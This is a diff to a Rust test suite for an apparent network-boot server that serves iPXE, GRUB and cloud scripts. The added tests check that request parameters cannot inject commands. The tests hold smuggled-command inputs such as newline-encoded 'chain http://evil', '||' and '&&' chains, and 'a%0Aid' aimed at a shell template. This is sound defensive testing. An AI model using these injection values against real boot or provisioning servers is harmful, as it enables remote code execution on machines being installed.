@@ -55,7 +55,7 @@ fn an_unknown_machine_goes_on_to_its_next_boot_device() {
     let rig = Rig::new(vec![profile("p", "/k", &[], &[]), group("g", "p", &[("mac", MAC)], "")]);
     let answer = rig.get("/ipxe?mac=52-54-00-00-00-01");
     assert_eq!(answer.status, 200);
-    assert!(answer.text().ends_with("exit 0\n") && !answer.text().contains("kernel"), "{}", answer.text());
+    assert!(answer.text().ends_with("exit 1\n") && !answer.text().contains("kernel"), "{}", answer.text());
     rig.apply(vec![settings(ScriptStyle::Matchbox)]);
     assert_eq!(rig.get("/ipxe?mac=52-54-00-00-00-01").status, 404, "matchbox style is matchbox's answer");
 }
@@ -65,7 +65,7 @@ fn a_held_machine_is_told_so_by_any_of_its_names() {
     let rig = Rig::new(vec![
         profile("p", "/k", &[], &[]),
         group("g", "p", &[], ""),
-        Edit::SetMachinePolicy(MAC.parse().unwrap(), MachinePolicy { hold: true, ..MachinePolicy::default() }),
+        Edit::SetMachinePolicy(MAC.parse().unwrap(), MachinePolicy { hold: true, ..MachinePolicy::default() }.into()),
     ]);
     for style in [ScriptStyle::Robust, ScriptStyle::Matchbox] {
         rig.apply(vec![settings(style)]);
@@ -92,6 +92,10 @@ fn request_values_never_become_commands() {
     ]);
     let tricks = [
         "a%0Achain%20http://evil/",
+        "||%20chain%20http://evil",
+        "a%20%26%26%20boot",
+        "a%20%23",
+        "a%5C",
         "a%0d%0aX:%20y",
         "%22%20||%20shell",
         "$%7Bx%7D",
@@ -109,13 +113,48 @@ fn request_values_never_become_commands() {
                 assert_eq!(rig.get(&format!("/grub?{key}={trick}")).body, grub, "{key}={trick}");
             }
             let rendered = rig.get(&format!("/generic?serial={trick}"));
-            assert!(rendered.status == 404 || rendered.text().lines().count() == 3, "{trick}: {}", rendered.text());
+            let harmless = ["%E2%80%A8", "%2525"].contains(&trick);
+            assert_eq!(rendered.status, if harmless { 200 } else { 404 }, "{trick}: {}", rendered.text());
+            let aside = rig.get(&format!("/generic?serial=a&hostname={trick}"));
+            assert_eq!(aside.text(), "#!ipxe\necho a\nboot\n", "{trick} is not used");
             assert!(rendered.header("x").is_none());
             assert_eq!(rig.get(&format!("/cloud?serial={trick}")).text().lines().count(), 2, "{trick}");
         }
     }
     assert_eq!(rig.get("/generic?serial=a%0Aboot").status, 404);
     assert_eq!(rig.get("/generic?serial=VMware-56%204d").text(), "#!ipxe\necho VMware-56 4d\nboot\n");
+}
+
+#[test]
+fn a_line_break_never_enters_a_shell_script() {
+    let rig = Rig::new(vec![
+        Edit::PutProfile(raft::state::Profile { id: "p".into(), cloud_id: "s".into(), ..Default::default() }),
+        group("g", "p", &[], ""),
+        template("cloud", "s", "#!/bin/sh\necho '{{.request.query.name}}'\n"),
+    ]);
+    assert_eq!(rig.get("/cloud?name=a%0Aid").status, 404);
+    assert_eq!(rig.get("/cloud?name=a%20||%20b").text(), "#!/bin/sh\necho 'a || b'\n", "quoting is the template's");
+    assert_eq!(rig.get("/cloud?name=a&other=a%0Aid").status, 200);
+}
+
+#[test]
+fn a_machine_whose_profile_boots_nothing_goes_on_and_one_whose_profile_is_missing_asks_again() {
+    let rig = Rig::new(vec![
+        Edit::PutProfile(raft::state::Profile { id: "configs".into(), ..Default::default() }),
+        group("g", "configs", &[], ""),
+        group("h", "missing", &[("mac", MAC)], ""),
+    ]);
+    let answer = rig.get("/ipxe?mac=52-54-00-00-00-01");
+    assert_eq!(answer.status, 200);
+    let text = answer.text();
+    assert!(
+        text.contains("nothing to boot is configured for profile configs;") && text.ends_with("\nexit 1\n"),
+        "{text}"
+    );
+    assert_eq!(rig.seen(), ["52:54:00:00:00:01    127.0.0.1 Refused"]);
+    assert_eq!(rig.get("/ipxe?mac=52-54-00-12-34-56").status, 404);
+    rig.apply(vec![settings(ScriptStyle::Matchbox)]);
+    assert_eq!(rig.get("/ipxe?mac=52-54-00-00-00-01").status, 404, "matchbox style is matchbox's answer");
 }
 
 #[test]
@@ -131,7 +170,7 @@ fn a_config_that_fails_is_a_404_and_the_next_request_is_served() {
         template("generic", "g", "{{.missing}}"),
         template("ignition", "b.yaml", "variant: fcos\nversion: 1.5.0\n"),
     ]);
-    for path in ["/generic", "/ignition", "/cloud", "/ipxe"] {
+    for path in ["/generic", "/ignition", "/cloud", "/grub"] {
         let answer = rig.get(path);
         assert_eq!((answer.status, answer.text().as_str()), (404, "404 page not found\n"), "{path}");
     }
@@ -269,12 +308,12 @@ fn a_client_that_dawdles_over_its_request_is_dropped() {
 #[test]
 fn one_client_cannot_take_all_connections() {
     let rig = Rig::new(vec![]);
-    let mut open: Vec<TcpStream> = (0..600).map(|_| TcpStream::connect(rig.address).unwrap()).collect();
-    let refused = open.iter_mut().rev().take(50).filter(|stream| {
+    let mut open: Vec<TcpStream> = (0..100).map(|_| TcpStream::connect(rig.address).unwrap()).collect();
+    let refused = open.iter_mut().rev().take(30).filter(|stream| {
         stream.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
         !matches!((&mut &**stream).read(&mut [0; 1]), Err(error) if error.kind() == std::io::ErrorKind::WouldBlock)
     });
-    assert_eq!(refused.take(1).count(), 1, "the last of 600 connections is closed");
+    assert_eq!(refused.take(1).count(), 1, "the last of 100 connections is closed");
     drop(open);
     rig::until(|| rig.try_get("/").is_some_and(|answer| answer.status == 200));
 }
